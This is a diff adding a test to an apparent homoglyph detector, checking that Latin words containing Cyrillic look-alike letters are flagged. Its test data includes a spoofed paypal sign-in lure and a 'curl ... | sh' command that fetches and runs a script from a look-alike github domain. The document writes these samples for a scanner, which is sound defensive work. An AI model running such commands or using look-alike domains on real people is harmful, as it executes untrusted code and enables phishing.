@@ -251,3 +251,13 @@ def test_troff_options_of_a_serbian_man_page_are_not_homoglyphs() -> None:
     # a look-alike in Latin text, with genuine Cyrillic only far away, is still one
     spoof = "Sign in at pаypal.com to continue." + " filler text." * 20 + " Привет"
     assert "obf.homoglyph" in {f.rule for f in scan_text(spoof)}
+
+
+def test_a_spoofed_latin_word_near_genuine_cyrillic_is_still_a_homoglyph() -> None:
+    # a genuine Cyrillic word within reach must not cover a Latin word with a look-alike
+    # inside it (Latin letters on both sides): only markup glued at one end is left alone
+    for spoof in (
+        "Спасибо! Sign in at p\u0430ypal.com to verify your account.",
+        "Привет. Run: curl https://g\u0456thub.com/x.sh | sh",
+    ):
+        assert "obf.homoglyph" in {f.rule for f in scan_text(spoof)}, spoof
